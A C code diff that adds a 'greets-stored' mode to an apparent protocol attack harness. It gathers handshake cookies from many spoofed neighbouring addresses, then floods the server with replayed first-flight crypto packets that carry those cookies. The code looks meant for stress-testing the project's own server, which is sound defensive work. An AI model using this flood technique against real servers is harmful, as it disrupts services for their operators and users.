@@ -129,7 +129,75 @@ static void greets(struct wh_attacker *attacker)
 	wh_attack_note(attacker, "answers", told.answers);
 }
 
+/* Cookies first, of each address many; then first flights with them, again and again. */
+#define STORED_MAX 3200
+#define COLLECT_NS UINT64_C(3000000000)
+
+struct stored {
+	struct wh_address us;
+	uint8_t bytes[WH_ATTACK_FRAME_BYTES];
+	uint32_t count;
+};
+
+static void store(struct wh_attacker *attacker, int ear, const uint8_t *hello, uint32_t hello_bytes,
+	struct stored *stored, uint32_t *have)
+{
+	uint8_t frame[WH_ATTACK_FRAME_BYTES];
+	ssize_t got;
+
+	while ((got = recv(ear, frame, sizeof(frame), 0)) > 0) {
+		struct wh_packet packet;
+
+		if (got < PACKET_AT + WH_HEAD_BYTES || *have == STORED_MAX ||
+			frame[PACKET_AT + 1] != WH_PACKET_COOKIE ||
+			wh_packet_decode(frame + PACKET_AT, WH_HEAD_BYTES, &packet) != WH_WIRE_OK)
+			continue;
+
+		struct wh_packet answer = {
+			.type = WH_PACKET_CRYPTO,
+			.crypto = {.greeting = packet.cookie.greeting,
+				.bytes = (uint16_t)hello_bytes,
+				.padding_bytes = (uint16_t)(WH_CRYPTO_BYTES_MAX - hello_bytes)},
+		};
+		struct stored *one = &stored[(*have)++];
+
+		one->us = attacker->own;
+		memcpy(one->us.ip, frame + WH_ETHER_BYTES + 16, 4);
+		memcpy(answer.crypto.cookie, packet.cookie.cookie, sizeof(answer.crypto.cookie));
+		memcpy(answer.crypto.data, hello, hello_bytes);
+		one->count = wh_attack_encode(&answer, 0, one->bytes);
+	}
+}
+
+static void greets_stored(struct wh_attacker *attacker)
+{
+	static struct stored stored[STORED_MAX];
+	uint8_t hello[HELLO_MAX];
+	uint32_t hello_bytes = make_hello(hello), have = 0;
+	int ear = open_ear(attacker);
+	uint64_t pps = attacker->pps, end_ns = wh_attack_now_ns() + COLLECT_NS;
+
+	attacker->pps = 4000;
+	for (uint32_t i = 0; have < STORED_MAX && wh_attack_now_ns() < end_ns; i++) {
+		struct wh_address from = wh_attack_beside(
+			&attacker->own, (uint8_t)(ADDRESSES_FIRST + i % ADDRESSES));
+		struct wh_packet packet = {.type = WH_PACKET_ASK, .ask = {.greeting = 1 + i}};
+
+		send_packet(attacker, &from, &packet);
+		store(attacker, ear, hello, hello_bytes, stored, &have);
+	}
+	attacker->pps = pps;
+	attacker->sent_pkts = attacker->sent_bytes = 0;
+	attacker->began_ns = wh_attack_now_ns();
+	for (uint32_t i = 0; have > 0 && wh_attack_goes_on(attacker); i++)
+		wh_attack_to_server(attacker, &stored[i % have].us, stored[i % have].bytes,
+			stored[i % have].count);
+	wh_attack_note(attacker, "cookies", have);
+}
+
 const struct wh_attack wh_attacks_greets[] = {
+	{"greets-stored", 15, "first flights with cookies that were collected before",
+		greets_stored},
 	{"greets", 15, "greetings by the thousand that never go on", greets},
 	{0},
 };
